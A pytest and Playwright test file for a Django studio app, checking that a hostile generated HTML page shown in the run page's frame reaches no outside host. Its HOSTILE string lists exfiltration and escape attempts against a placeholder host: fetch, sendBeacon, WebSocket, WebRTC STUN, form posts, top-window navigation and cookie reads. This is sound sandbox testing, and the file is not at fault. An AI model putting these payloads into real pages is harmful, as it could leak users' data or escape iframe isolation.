"""A hostile generated page in the run page's frame: it runs, and reaches nobody."""

from __future__ import annotations

import socket
import threading
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Browser

from studio.runs.services import finish_run, record_attempt
from tests.people import cast
from tests.studio.runs.making import BEN, attempt, claimed_run

HOSTILE = """<!doctype html>
<meta http-equiv="refresh" content="1; url=http://OUT/meta-refresh">
<link rel="dns-prefetch" href="//OUT"><link rel="preconnect" href="http://OUT"><link rel="prefetch" href="http://OUT/prefetch">
<link rel="stylesheet" href="http://OUT/style.css"><script src="http://OUT/script.js"></script>
<style>@import "http://OUT/import.css"; @font-face { font-family: f; src: url(http://OUT/font) } p { font-family: f }
body { background: url(http://OUT/background.png) }</style>
<p>text</p><img src="http://OUT/image.png"><iframe src="http://OUT/frame"></iframe>
<video src="http://OUT/video"></video><object data="http://OUT/object"></object>
<form id="f" action="http://OUT/form" method="post"><input name="a" value="b"></form>
<a id="a" href="http://OUT/ping" ping="http://OUT/ping" target="_top">x</a>
<script>
const attempts = [
  () => fetch("http://OUT/fetch", { mode: "no-cors" }),
  () => fetch("/"),
  () => navigator.sendBeacon("http://OUT/beacon", "x"),
  () => new WebSocket("ws://OUT/socket"),
  () => new EventSource("http://OUT/events"),
  () => new Worker("http://OUT/worker.js"),
  () => window.open("http://OUT/popup"),
  () => { top.location = "http://OUT/top"; },
  () => { parent.document.title = "taken"; },
  () => document.cookie,
  () => localStorage.length,
  () => f.submit(),
  () => a.click(),
  () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:OUT" }] });
          peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o)); },
  () => alert("stuck"),
];
for (const one of attempts) { try { Promise.resolve(one()).catch(() => {}); } catch {} }
console.log("ran");
setTimeout(() => { location = "http://OUT/navigate"; }, 300);
</script>"""


class Listener:
    """Counts whoever connects, on TCP or by a datagram, at one port of loopback."""

    def __init__(self) -> None:
        self.contacts: list[str] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        for listen in (self._tcp, self._udp):
            threading.Thread(target=listen, daemon=True).start()

    def _tcp(self) -> None:
        while True:
            connection, _ = self.tcp.accept()
            connection.settimeout(1)
            try:
                words = connection.recv(200).decode(errors="replace").split("\r\n")[0]
            except TimeoutError:
                words = "a connection without a word"
            self.contacts.append(words)
            connection.close()

    def _udp(self) -> None:
        while True:
            self.contacts.append(f"UDP {self.udp.recvfrom(2000)[0][:20]!r}")


@pytest.fixture
def listener() -> Listener:
    return Listener()


@pytest.mark.django_db(transaction=True)
def test_a_hostile_page_in_the_frame_reaches_nobody(
    browser: Browser, live_server: Any, listener: Listener
) -> None:
    run = claimed_run()
    record_attempt(
        run_id=run.pk,
        worker=BEN,
        attempt=attempt(html=HOSTILE.replace("OUT", f"127.0.0.1:{listener.port}")),
    )
    finish_run(run_id=run.pk, worker=BEN, stop_reason="no model", message="", report={})
    client = Client()
    client.force_login(cast("ada"))
    name = settings.SESSION_COOKIE_NAME
    context = browser.new_context()
    context.add_cookies(
        [{"name": name, "value": client.cookies[name].value, "url": live_server.url}]
    )
    page = context.new_page()
    asked: list[str] = []
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("request", lambda request: asked.append(request.url))
    address = live_server.url + reverse("runs:run", args=[run.pk])
    page.goto(address)
    page.wait_for_timeout(2500)  # time for its refresh, its navigation and its candidates

    assert "ran" in said  # its own script may run
    assert listener.contacts == []
    assert page.url == address
    assert page.title() == "Untitled · v1 · Likeness"
    assert len(page.context.pages) == 1
    assert f"{live_server.url}/" not in asked, "it reached the studio's own pages"
    context.close()


def test_the_listener_would_hear_it(browser: Browser, listener: Listener) -> None:
    page = browser.new_page()
    page.set_content(f"<img src='http://127.0.0.1:{listener.port}/image.png'>")
    page.wait_for_timeout(500)
    page.close()
    assert "GET /image.png HTTP/1.1" in listener.contacts
